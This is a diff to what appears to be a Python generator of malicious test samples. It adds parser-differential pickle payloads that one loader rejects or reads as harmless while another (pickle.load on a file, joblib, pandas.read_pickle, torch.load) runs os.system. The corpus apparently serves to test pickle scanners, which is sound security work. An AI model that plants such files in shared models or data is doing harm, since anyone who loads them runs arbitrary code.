@@ -55,6 +55,7 @@ import sys
 import tarfile
 import zipfile
 import zlib
+import dataclasses
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Callable
@@ -2096,6 +2097,68 @@ def missing_modules(s: Sample) -> list[str]:
         if not found:
             missing.append(m)
     return missing
+
+
+# =============================================================================================
+# loaders that read the same bytes differently (issue 20): frames read from a file object,
+# and pickle._Unpickler's float() lines
+# =============================================================================================
+
+def _frame_read_whole(tail: bytes) -> bytes:
+    """A FRAME longer than any peek buffer (the C unpickler reading a file gets it with one
+    read()) whose last bytes are `tail`: 128 KiB of bytes data, popped, come first."""
+    pad = b"B" + struct.pack("<I", 1 << 17) + bytes(1 << 17) + b"0"
+    return frame(pad + tail)
+
+
+def _frame_crossing(sid: str) -> bytes:
+    # Read as bytes, the INT line is "x0": not a number, so nothing runs. Read from a file,
+    # the "x" left in the frame is dropped and the line is "0"; the payload follows.
+    payload = Asm(4, header=False).emit(CALL(G("os", "system"), shell_cmd(sid))).stop()
+    return b"\x80\x04" + _frame_read_whole(b"Ix") + b"0\n0" + payload
+
+
+@sample("parser_differential", loader="pickle.load_stream",
+        source="issue 20: a line opcode across a FRAME end (C unpickler on a file object)",
+        note="pickle.loads fails on the INT line; pickle.load of the file drops the rest of the frame and runs the payload")
+def frame_line_crossing(sid):
+    return _frame_crossing(sid)
+
+
+@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", requires=("torch",),
+        source="issue 20: torch.load reads data.pkl through io.BytesIO, where frames are read whole")
+def torch_frame_line_crossing(sid):
+    import torch
+
+    members = zip_members(_torch_bytes({"weight": torch.arange(4, dtype=torch.float32)}))
+    members = [dataclasses.replace(m, data=_frame_crossing(sid)) if m.name.endswith("/data.pkl") else m
+               for m in members]
+    return build_zip(members)
+
+
+@sample("parser_differential", loader="pickle.load_stream",
+        source="issue 20: STOP inside a FRAME, more streams after it",
+        note="after the first pickle.load the file is at the frame's end, not after the STOP: the bytes after the STOP are skipped and the payload runs next")
+def frame_stop_then_payload(sid):
+    first = _frame_read_whole(b"N.\xff")
+    return b"\x80\x04" + first + system_call(sid, 2, "posix")
+
+
+def _float_then_payload(sid: str) -> bytes:
+    return b"F 1_0e500 \n0" + system_call(sid, 2, "posix")
+
+
+@sample("parser_differential", loader="joblib.load",
+        source="issue 20: a FLOAT line only float() accepts (joblib's NumpyUnpickler is pickle._Unpickler)",
+        note="the C unpickler rejects the line (\"not a pickle\"); joblib reads it as inf and runs the payload")
+def float_line_joblib(sid):
+    return _float_then_payload(sid)
+
+
+@sample("parser_differential", loader="pandas.read_pickle",
+        source="issue 20: pandas.read_pickle retries a ValueError with its pickle._Unpickler subclass")
+def float_line_pandas(sid):
+    return _float_then_payload(sid)
 
 
 def generate(out: Path, only: set[str] | None = None) -> list[dict]:
